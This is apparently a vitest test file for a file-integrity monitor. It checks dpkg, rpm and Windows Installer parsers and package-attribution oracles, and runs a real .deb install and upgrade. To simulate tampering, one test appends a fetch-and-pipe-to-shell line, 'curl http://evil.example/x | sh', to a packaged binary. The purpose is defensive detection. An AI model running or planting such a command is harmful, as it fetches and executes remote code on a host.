/**
 * Package-manager attribution: the parsers on outputs recorded from the real tools, the oracles on
 * those outputs, and — on a Debian host, as root — a real package built with dpkg-deb, installed,
 * upgraded and tampered with under a running FIM check.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { appendFileSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { logger } from '../../../common/logger.js';
import type { Fields } from '../../../common/finding.js';
import { dpkgActivity, parseDpkgLog } from '../../host/linux/dpkg-log.js';
import { dpkgSearchable, dpkgTempTarget, parseDpkgSearch, parseDpkgVerify, usrMergeAlias } from '../../host/linux/dpkg-files.js';
import { parseRpmFiles, parseRpmInstallTimes } from '../../host/linux/rpm-files.js';
import { msiActivity, parseMsiInstallerEvents } from '../../host/windows/msi-installer.js';
import { createDpkgOracle, createRpmOracle, type PackageHostDeps } from '../../host/package-changes.js';
import type { CommandResult } from '../../host/run.js';
import type { CheckContext, Observation } from '../check.js';
import { createFimCheck } from './index.js';

const fixture = (name: string) => readFileSync(new URL(`./fixtures/${name}`, import.meta.url), 'utf8');
const local = (s: string) => new Date(s.replace(' ', 'T')).getTime();

describe('dpkg.log', () => {
  const entries = parseDpkgLog(fixture('debian12-dpkg.log'));

  it('reads actions and states with their local time, package, architecture and versions', () => {
    expect(entries.find((e) => e.action === 'upgrade')).toEqual({ time: local('2026-11-28 01:02:22'), action: 'upgrade', name: 'cg-fimtest', arch: 'all', from: '1.0', to: '1.1' });
    expect(entries.find((e) => e.action === 'install' && e.name === 'cg-fimtest')).toMatchObject({ to: '1.0' });
    expect(entries.find((e) => e.action === 'install' && e.name === 'cg-fimtest')!.from).toBeUndefined();
    expect(entries.find((e) => e.action === 'purge')).toMatchObject({ name: 'cg-fimtest', from: '1.1' });
    expect(entries.find((e) => e.action === 'status' && e.status === 'installed' && e.name === 'man-db')).toMatchObject({ arch: 'amd64', to: '2.11.2-2' });
    expect(parseDpkgLog('2026-11-28 01:02:22 startup archives unpack\nnot a log line\n')).toEqual([]);
  });

  it('sums up what dpkg did to each package inside a window', () => {
    const during = dpkgActivity(entries, local('2026-11-28 01:02:22'), local('2026-11-28 01:02:22'));
    expect(during.get('cg-fimtest:all')).toMatchObject({ version: '1.1', previous: '1.0', removed: false });
    const all = dpkgActivity(entries, 0, Number.MAX_SAFE_INTEGER);
    expect(all.get('cg-fimtest:all')).toMatchObject({ removed: true, previous: '1.1', first: local('2026-11-28 01:02:22'), last: local('2026-11-28 01:02:23') });
    expect(all.get('cg-fimtest:all')!.version).toBeUndefined();
    expect(dpkgActivity(entries, 0, 1).size).toBe(0);
  });
});

describe('dpkg -S and dpkg --verify', () => {
  it('reads owners (several per path, architecture kept) and skips diversions', () => {
    const owners = parseDpkgSearch(fixture('debian12-dpkg-S.stdout'));
    expect(owners.get('/bin/ls')).toEqual(['coreutils']);
    expect(owners.get('/usr/bin/pg_config')).toEqual(['postgresql-common', 'libpq-dev']);
    expect(owners.get('/lib/x86_64-linux-gnu/libc.so.6')).toEqual(['libc6:amd64']);
    expect(owners.has('/usr/bin/ls')).toBe(false); // merged /usr: dpkg knows it as /bin/ls
    expect(fixture('debian12-dpkg-S.stderr')).toContain('no path found matching pattern /usr/bin/ls');
    expect([...owners.keys()].some((k) => k.includes('pg_config.libpq-dev'))).toBe(false);
  });

  it('reads which files differ from the package database, conffiles and missing files', () => {
    expect(parseDpkgVerify(fixture('debian12-dpkg-verify.txt'))).toEqual([
      { path: '/etc/cg-fimtest/app.conf', flags: '??5??????', conffile: true, missing: false, digestDiffers: true },
      { path: '/usr/lib/cg-fimtest/tool', flags: '??5??????', conffile: false, missing: false, digestDiffers: true },
      { path: '/etc/cg-fimtest/app.conf', flags: '??5??????', conffile: true, missing: false, digestDiffers: true },
      { path: '/usr/lib/cg-fimtest/tool', flags: 'missing', conffile: false, missing: true, digestDiffers: false },
    ]);
  });

  it('knows the other spelling of merged-/usr paths, dpkg temp names and glob characters', () => {
    expect(usrMergeAlias('/usr/bin/ls')).toBe('/bin/ls');
    expect(usrMergeAlias('/lib/x86_64-linux-gnu/libc.so.6')).toBe('/usr/lib/x86_64-linux-gnu/libc.so.6');
    expect(usrMergeAlias('/usr/share/doc')).toBeUndefined();
    expect(usrMergeAlias('/binary')).toBeUndefined();
    expect(dpkgTempTarget('/usr/bin/passwd.dpkg-new')).toBe('/usr/bin/passwd');
    expect(dpkgTempTarget('/etc/app.conf.ucf-dist')).toBe('/etc/app.conf');
    expect(dpkgTempTarget('/etc/app.conf')).toBeUndefined();
    expect(dpkgSearchable('/etc/x[1]')).toBe(false);
    expect(dpkgSearchable('/etc/*')).toBe(false);
    expect(dpkgSearchable('/etc/passwd')).toBe(true);
  });
});

describe('rpm', () => {
  it('reads install times and per-file SHA-256 digests', () => {
    expect(parseRpmInstallTimes(fixture('rpm418-qa-installtime.txt'))).toEqual([
      { name: 'cg-other', version: '2:1.0-1', arch: 'noarch', installTime: 1795827816 },
      { name: 'cg-fimtest', version: '0:1.0-1', arch: 'noarch', installTime: 1795827816 },
    ]);
    const [pkg, other] = parseRpmFiles(fixture('rpm418-q-files.txt'));
    expect(pkg).toMatchObject({ name: 'cg-fimtest', version: '0:1.0-1', digestAlgo: 8 });
    expect(pkg!.files.get('/usr/lib/cg-fimtest/tool')).toBe('716269d16f6dab02eee206f253f49afa8ee4f36efcd38ef9f65310edd5a1c61f');
    expect(pkg!.files.get('/usr/lib/cg-fimtest')).toBe('');
    expect(other!.version).toBe('2:1.0-1');
  });
});

describe('Windows Installer events', () => {
  // Hand-written in the documented shape (see msi-installer.ts); not a recording.
  const sample = JSON.stringify([
    { TimeCreated: '/Date(1767225600000)/', Id: 1033, Properties: ['7-Zip 24.09 (x64)', '24.09.00.0', '1033', 0, 'Igor Pavlov'] },
    { TimeCreated: '2026-01-01T00:10:00+07:00', Id: 1034, Properties: ['Old Tool', '1.0', '1033', 0, 'Vendor'] },
    { TimeCreated: '/Date(1767225700000)/', Id: 1033, Properties: ['Failed App', '2.0', '1033', 1603, 'Vendor'] },
    { TimeCreated: '/Date(1767225700000)/', Id: 11707, Properties: ['Product: X -- Installation completed successfully.'] },
  ]);

  it('reads installs, removals, versions and status; keeps only successful ones for a window', () => {
    const events = parseMsiInstallerEvents(sample);
    expect(events.map((e) => [e.action, e.product, e.version, e.status])).toEqual([
      ['installed', '7-Zip 24.09 (x64)', '24.09.00.0', 0],
      ['removed', 'Old Tool', '1.0', 0],
      ['installed', 'Failed App', '2.0', 1603],
    ]);
    expect(events[1]!.time).toBe(Date.parse('2025-12-31T17:10:00Z'));
    expect(msiActivity(events, 0, Number.MAX_SAFE_INTEGER).map((e) => e.product)).toEqual(['7-Zip 24.09 (x64)', 'Old Tool']);
    expect(parseMsiInstallerEvents(JSON.stringify(JSON.parse(sample)[0]))).toHaveLength(1);
    expect(parseMsiInstallerEvents('')).toEqual([]);
    expect(parseMsiInstallerEvents('not json')).toEqual([]);
  });
});

/** Host access that answers from recorded outputs. */
function recorded(opts: { mtime: Record<string, number>; log?: string; outputs: Record<string, string> }): PackageHostDeps & { calls: string[][] } {
  const calls: string[][] = [];
  return {
    calls,
    mtime: async (p) => opts.mtime[p],
    tail: async () => opts.log,
    run: async (id, args) => {
      calls.push([id, ...args]);
      const key = `${id} ${args[0]}`;
      const stdout = opts.outputs[key];
      if (stdout === undefined) throw new Error(`unexpected command ${key}`);
      return { path: `/usr/bin/${id}`, stdout, stderr: '', durationMs: 1 } satisfies CommandResult;
    },
  };
}

describe('package oracles on recorded outputs', () => {
  const t = local('2026-11-28 01:02:22');

  it('dpkg: expected when the owner was upgraded in the window and the file matches; not when dpkg --verify says it differs', async () => {
    const deps = recorded({
      mtime: { '/var/log/dpkg.log': t + 1000 },
      log: fixture('debian12-dpkg.log'),
      outputs: { 'dpkg -S': 'cg-fimtest: /usr/lib/cg-fimtest/tool\ncg-fimtest: /etc/cg-fimtest/app.conf\ncoreutils: /bin/ls\n', 'dpkg --verify': '??5??????   /usr/lib/cg-fimtest/tool\n' },
    });
    const v = await createDpkgOracle(deps).explain([
      { path: '/etc/cg-fimtest/app.conf', atMs: t, type: 'file', deleted: false },
      { path: '/usr/lib/cg-fimtest/tool', atMs: t, type: 'file', deleted: false },
      { path: '/usr/bin/ls', atMs: t, type: 'file', deleted: false },
      { path: '/etc/cg-fimtest/app.conf.dpkg-new', atMs: t, type: 'file', deleted: false },
    ], 300_000);
    expect(v.get('/etc/cg-fimtest/app.conf')).toEqual({ package: 'cg-fimtest', version: '1.1', expected: true });
    expect(v.get('/usr/lib/cg-fimtest/tool')).toEqual({ package: 'cg-fimtest', version: '1.1', expected: false });
    expect(v.get('/etc/cg-fimtest/app.conf.dpkg-new')).toMatchObject({ package: 'cg-fimtest', expected: true });
    expect(v.has('/usr/bin/ls')).toBe(false); // coreutils did nothing in the window
    // dpkg -S was asked about the merged-/usr spelling too, and --verify only about the package that was active.
    expect(deps.calls[0]).toEqual(expect.arrayContaining(['-S', '/usr/bin/ls', '/bin/ls']));
    expect(deps.calls[1]).toEqual(['dpkg', '--verify', 'cg-fimtest']);
  });

  it('dpkg: asks nothing when dpkg.log is older than the window, or dpkg did nothing in it', async () => {
    const quiet = recorded({ mtime: { '/var/log/dpkg.log': t - 3_600_000 }, outputs: {} });
    expect((await createDpkgOracle(quiet).explain([{ path: '/etc/x', atMs: t, type: 'file', deleted: false }], 300_000)).size).toBe(0);
    const later = recorded({ mtime: { '/var/log/dpkg.log': t + 86_400_000 * 30 }, log: fixture('debian12-dpkg.log'), outputs: {} });
    expect((await createDpkgOracle(later).explain([{ path: '/etc/x', atMs: t + 86_400_000 * 30, type: 'file', deleted: false }], 300_000)).size).toBe(0);
    expect(quiet.calls).toEqual([]);
    expect(later.calls).toEqual([]);
  });

  it('rpm: expected when the package was installed in the window and the SHA-256 is the packaged one', async () => {
    const at = 1795827816 * 1000;
    const deps = recorded({
      mtime: { '/var/lib/rpm/rpmdb.sqlite': at },
      outputs: { 'rpm -qa': fixture('rpm418-qa-installtime.txt'), 'rpm -q': fixture('rpm418-q-files.txt') },
    });
    const v = await createRpmOracle(deps).explain([
      { path: '/usr/lib/cg-fimtest/tool', atMs: at + 2000, type: 'file', deleted: false, sha256: '716269d16f6dab02eee206f253f49afa8ee4f36efcd38ef9f65310edd5a1c61f' },
      { path: '/etc/cg-fimtest/app.conf', atMs: at + 2000, type: 'file', deleted: false, sha256: '0'.repeat(64) },
      { path: '/usr/lib/cg-fimtest/tool-link', atMs: at, type: 'symlink', deleted: false },
      { path: '/usr/lib/cg-other/tool', atMs: at + 3_600_000, type: 'file', deleted: false, sha256: '716269d16f6dab02eee206f253f49afa8ee4f36efcd38ef9f65310edd5a1c61f' },
    ], 300_000);
    expect(v.get('/usr/lib/cg-fimtest/tool')).toEqual({ package: 'cg-fimtest', version: '0:1.0-1', expected: true });
    expect(v.get('/etc/cg-fimtest/app.conf')).toEqual({ package: 'cg-fimtest', version: '0:1.0-1', expected: false });
    expect(v.get('/usr/lib/cg-fimtest/tool-link')).toMatchObject({ expected: true });
    expect(v.has('/usr/lib/cg-other/tool')).toBe(false); // changed an hour after its install
  });
});

const canDpkg = process.platform === 'linux' && process.getuid?.() === 0 && existsSync('/usr/bin/dpkg-deb') && existsSync('/var/lib/dpkg/status');

/** dpkg, retried while another dpkg/apt holds the lock. */
function dpkg(args: string[]): void {
  for (let i = 0; ; i++) {
    const r = spawnSync('dpkg', args, { encoding: 'utf8' });
    if (r.status === 0) return;
    if (i < 30 && /lock/i.test(r.stderr)) {
      execFileSync('sleep', ['2']);
      continue;
    }
    throw new Error(`dpkg ${args.join(' ')} failed: ${r.stderr}`);
  }
}

describe.skipIf(!canDpkg)('a real package upgrade under FIM (dpkg-deb, dpkg -i, dpkg --purge)', () => {
  const PKG = 'cg-fimtest';
  let work: string;
  const build = (version: string, tool: string): string => {
    const root = join(work, `pkg-${version}`);
    mkdirSync(join(root, 'DEBIAN'), { recursive: true });
    mkdirSync(join(root, 'usr/lib/cg-fimtest'), { recursive: true });
    mkdirSync(join(root, 'etc/cg-fimtest'), { recursive: true });
    writeFileSync(join(root, 'DEBIAN/control'), `Package: ${PKG}\nVersion: ${version}\nArchitecture: all\nMaintainer: Canh Gac <dev@example.invalid>\nDescription: Canh Gac FIM test package\n`);
    writeFileSync(join(root, 'DEBIAN/conffiles'), '/etc/cg-fimtest/app.conf\n');
    writeFileSync(join(root, 'etc/cg-fimtest/app.conf'), `version=${version}\n`);
    writeFileSync(join(root, 'usr/lib/cg-fimtest/tool'), tool, { mode: 0o755 });
    const deb = join(work, `${PKG}_${version}_all.deb`);
    execFileSync('dpkg-deb', ['--build', '--root-owner-group', root, deb], { stdio: 'ignore' });
    return deb;
  };

  beforeAll(() => {
    work = mkdtempSync(join(tmpdir(), 'cg-fim-deb-'));
    dpkg(['-i', build('1.0', '#!/bin/sh\necho 1.0\n')]);
  });
  afterAll(() => {
    try {
      dpkg(['--purge', PKG]);
    } finally {
      rmSync(work, { recursive: true, force: true });
    }
  });

  function context() {
    const stateDir = mkdtempSync(join(tmpdir(), 'cg-fim-deb-state-'));
    const emitted: Observation[] = [];
    const ctx: CheckContext = { log: logger('test', { check: 'fim' }), stateDir, emit: async (o) => { emitted.push(...o); } };
    const fim = () => emitted.filter((o) => o.kind === 'fim').map((o) => o.fields);
    return { stateDir, ctx, fim, clear: () => { emitted.length = 0; } };
  }
  const at = (events: Fields[], path: string) => events.find((e) => e['file.path'] === path);

  it('marks the files an upgrade replaced as expected, with the package and its new version; a stray file and a tampered one are not', async () => {
    const c = context();
    const check = createFimCheck();
    check.init({ paths: ['/usr/lib/cg-fimtest', '/etc/cg-fimtest'] });
    try {
      await check.collect(c.ctx); // baseline of version 1.0
      dpkg(['-i', build('1.1', '#!/bin/sh\necho 1.1\n')]);
      writeFileSync('/usr/lib/cg-fimtest/stray', 'not from a package\n');
      await check.collect(c.ctx);
      const events = c.fim();
      expect(at(events, '/usr/lib/cg-fimtest/tool')).toMatchObject({ 'event.action': 'modified', 'fim.expected': true, 'fim.expected_reason': 'package', 'fim.package': PKG, 'fim.package_version': '1.1' });
      expect(at(events, '/etc/cg-fimtest/app.conf')).toMatchObject({ 'event.action': 'modified', 'fim.expected': true, 'fim.package': PKG, 'fim.package_version': '1.1' });
      expect(at(events, '/usr/lib/cg-fimtest/stray')).toMatchObject({ 'event.action': 'created', 'fim.expected': false });
      expect(at(events, '/usr/lib/cg-fimtest/stray')!['fim.package']).toBeUndefined();

      // Right after the upgrade (still inside the window) someone edits the packaged binary:
      // dpkg --verify sees it differs from the package, so it is not the package's doing.
      c.clear();
      appendFileSync('/usr/lib/cg-fimtest/tool', 'curl http://evil.example/x | sh\n');
      await check.collect(c.ctx);
      expect(at(c.fim(), '/usr/lib/cg-fimtest/tool')).toMatchObject({ 'event.action': 'modified', 'fim.expected': false, 'fim.package': PKG });
    } finally {
      rmSync('/usr/lib/cg-fimtest/stray', { force: true });
      rmSync(c.stateDir, { recursive: true, force: true });
    }
  });

  it('in real time too: an upgrade while the check watches reports the new binary as expected', async () => {
    const c = context();
    const check = createFimCheck();
    check.init({ paths: ['/usr/lib/cg-fimtest'], debounce_ms: 200 });
    try {
      await check.start!(c.ctx);
      dpkg(['-i', build('1.2', '#!/bin/sh\necho 1.2\n')]);
      const end = Date.now() + 15_000;
      let ev: Fields | undefined;
      while (!(ev = c.fim().find((e) => e['file.path'] === '/usr/lib/cg-fimtest/tool' && e['fim.package_version'] === '1.2')) && Date.now() < end) {
        await new Promise((r) => setTimeout(r, 100));
      }
      expect(ev).toMatchObject({ 'fim.source': 'realtime', 'fim.expected': true, 'fim.package': PKG, 'fim.package_version': '1.2' });
      expect(c.fim().filter((e) => e['fim.expected'] !== true && !String(e['file.path']).endsWith('.dpkg-new'))).toEqual([]);
    } finally {
      await check.stop!();
      rmSync(c.stateDir, { recursive: true, force: true });
    }
  });
});
